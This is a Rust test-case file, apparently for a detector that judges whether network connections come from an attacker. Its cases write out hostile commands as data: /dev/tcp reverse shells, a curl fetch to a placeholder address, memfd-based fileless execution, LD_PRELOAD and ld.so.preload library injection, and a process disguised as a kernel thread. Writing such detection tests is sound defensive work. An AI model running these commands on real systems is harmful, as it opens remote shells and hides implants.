//! Which connections are caused by an attacker?

use tripoint_model::Verdict;
use tripoint_model::why::Cause::{Implant, InboundReaction};

use super::CONNECT;
use crate::stage::{CASE, Case};

pub const CASES: &[Case] = &[
    // Reactions.
    Case {
        name: "shell under nginx",
        cause: InboundReaction,
        run: &["/usr/sbin/nginx", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"],
        ..CASE
    },
    Case {
        name: "curl under Apache",
        cause: InboundReaction,
        run: &["/usr/sbin/apache2", "-c", "/bin/sh -c '/usr/bin/curl -s http://ADDR:PORT/x; :'; :"],
        ..CASE
    },
    Case {
        name: "command of PHP after an attack",
        cause: InboundReaction,
        run: &["/usr/sbin/php-fpm8.2", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"],
        attempted: Some(Verdict::LikelySucceeded),
        ..CASE
    },
    Case {
        name: "program of a database",
        cause: InboundReaction,
        run: &["/usr/sbin/postgres", "-c", "/bin/sh -c 'bash /opt/go.sh; :'; :"],
        ..CASE
    },
    Case {
        name: "web shell in a served folder",
        cause: InboundReaction,
        files: &[("/srv/www/html/up.sh", CONNECT)],
        run: &["/usr/sbin/php-fpm", "-c", "/bin/bash /srv/www/html/up.sh; :"],
        ..CASE
    },
    Case {
        name: "reverse shell under Tomcat",
        cause: InboundReaction,
        run: &[
            "/usr/sbin/tomcat",
            "-c",
            "/bin/bash -c 'read -r h p; exec 3<>/dev/tcp/$h/$p; exec bash <&3 >&3 2>&1'; :",
        ],
        ..CASE
    },
    Case {
        name: "server that calls out after an attack",
        cause: InboundReaction,
        run: &["/usr/sbin/apache2", "/opt/go.sh"],
        attempted: Some(Verdict::Attempted),
        package: Some("apache2"),
        ..CASE
    },
    // Implants.
    Case {
        name: "program in the shared memory",
        cause: Implant,
        run: &["/dev/shm/STAGED", "/opt/go.sh"],
        before: "cp /bin/bash /dev/shm/STAGED",
        ..CASE
    },
    Case {
        name: "program in the folder for temporary files",
        cause: Implant,
        run: &["TEMP/tmp/updater", "/opt/go.sh"],
        ..CASE
    },
    Case {
        name: "program in a temporary folder, given the address",
        cause: Implant,
        run: &["TEMP/tmp/x", "/opt/go.sh", "ADDR"],
        ..CASE
    },
    Case { name: "false package manager", cause: Implant, run: &["TEMP/tmp/apt", "/opt/go.sh"], ..CASE },
    Case {
        name: "deleted program",
        cause: Implant,
        run: &["/opt/app/gone", "-c", "/usr/bin/rm -f /opt/app/gone; GO"],
        ..CASE
    },
    Case {
        name: "program in memory",
        cause: Implant,
        run: &[
            "/usr/bin/python3",
            "-c",
            "import os\nf = os.memfd_create('x', 0)\nos.write(f, open('/bin/bash', 'rb').read())\nos.execv('/proc/self/fd/%d' % f, ['x', '/opt/go.sh'])",
        ],
        ..CASE
    },
    Case {
        name: "library put before others",
        cause: Implant,
        environment: &[("LD_PRELOAD", "/opt/lib/libhide.so")],
        before: "mkdir -p TEMP/opt/lib && cp /lib/x86_64-linux-gnu/libm.so.6 TEMP/opt/lib/libhide.so",
        ..CASE
    },
    Case {
        name: "library put before all programs",
        cause: Implant,
        files: &[("/etc/ld.so.preload", "/opt/lib/libhide.so\n")],
        before: "mkdir -p TEMP/opt/lib && cp /lib/x86_64-linux-gnu/libm.so.6 TEMP/opt/lib/libhide.so",
        run: &["/bin/bash", "/opt/go.sh"],
        ..CASE
    },
    Case {
        name: "reverse shell that nobody started",
        cause: Implant,
        run: &["/bin/bash", "-c", "read -r h p; exec 3<>/dev/tcp/$h/$p; exec bash <&3 >&3 2>&1"],
        ..CASE
    },
    Case {
        name: "script in a temporary folder",
        cause: Implant,
        files: &[("/tmp/x.sh", "GO")],
        run: &["/bin/bash", "TEMP/tmp/x.sh"],
        ..CASE
    },
    Case {
        name: "program that calls itself a thread of the kernel",
        cause: Implant,
        run: &["/bin/bash", "-c", "exec -a '[kworker/0:1]' /bin/bash /opt/go.sh"],
        ..CASE
    },
];
